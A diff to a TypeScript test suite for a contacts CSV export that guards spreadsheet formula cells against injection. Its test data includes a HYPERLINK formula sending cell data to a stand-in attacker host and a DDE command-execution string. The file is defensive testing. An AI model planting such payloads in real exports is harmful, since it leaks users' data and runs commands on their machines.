@@ -14,7 +14,7 @@ const headers = { Authorization: `Bearer ${OPERATOR_TOKEN}` }
 const csv = (query = '') =>
   worker.fetch(`/api/contacts${query}`, { headers: { ...headers, Accept: 'text/csv' } })
 
-const unguard = (cell: string) => cell.replace(/^'/, '')
+const unguard = (cell: string) => cell.replace(/(^|[;\t\r\n])'/g, '$1')
 const parseCsv = (text: string): Row[] => parse(text, { columns: true, bom: true })
 const parseUnguarded = (text: string): Row[] =>
   parse(text, { columns: true, bom: true, cast: unguard })
@@ -41,7 +41,6 @@ const executable = [
   '=HYPERLINK("http://evil.example?x="&A1,"here")',
   "=cmd|' /C calc'!A0",
   ' =1+1',
-  '\n=1+1',
   '\u00a0=1+1',
   '\u3000=1+1',
   '\ufeff=1+1',
@@ -49,7 +48,8 @@ const executable = [
   '\u202e=1+1',
   '\u0000=1+1',
   '\u0301=1+1',
-  ' \t\r\n \u2028=1+1',
+  ' \u0085\u2028=1+1',
+  '"=1+1"',
   '＝1+1',
   '＋1',
   '－1',
@@ -57,23 +57,23 @@ const executable = [
   '﹦1+1',
   '−1',
 ]
-const quoted = ["'", "'=1+1", "''", "'tis"]
-const plain = [
-  '',
-  'a=b',
-  'Ada',
-  '1-2',
-  '"=1+1"',
-  '"',
-  'a,b;c',
-  'a\r\n=1+1',
-  'a\nb',
-  " '=1+1",
-  '界 👋',
+const inside: [string, string][] = [
+  ['\n=1+1', "\n'=1+1"],
+  [' \t\r\n \u2028=1+1', " \t\r\n' \u2028=1+1"],
+  ['a\r\n=1+1', "a\r\n'=1+1"],
+  ['a;"=1+1"', 'a;\'"=1+1"'],
+  ['a\t+1\n- 2', "a\t'+1\n'- 2"],
+  ["a;'b", "a;''b"],
 ]
+const quoted = ["'", "'=1+1", "''", "'tis"]
+const plain = ['', 'a=b', 'Ada', '1-2', '"', 'a,b;c', 'a;b=c', 'a\nb', " '=1+1", '界 👋']
 
 test.each(executable)('guards the formula %j', (cell) => {
   expect(guard(cell)).toBe(`'${cell}`)
+})
+
+test.each(inside)('guards where %j may be cut: %j', (cell, guarded) => {
+  expect(guard(cell)).toBe(guarded)
 })
 
 test.each(quoted)('guards %j, which begins as a guarded cell does', (cell) => {
@@ -84,8 +84,13 @@ test.each(plain)('leaves %j as it is', (cell) => {
   expect(guard(cell)).toBe(cell)
 })
 
-test('hands out every enquiry once, newest first, equal after one guard is dropped', async () => {
-  const messages = Array.from({ length: 20 }, () => [...executable, ...quoted, ...plain]).flat()
+test('hands out every enquiry once, newest first, equal after its guards are dropped', async () => {
+  const messages = Array.from({ length: 20 }, () => [
+    ...executable,
+    ...inside.map(([cell]) => cell),
+    ...quoted,
+    ...plain,
+  ]).flat()
   await store(messages)
 
   const response = await csv()
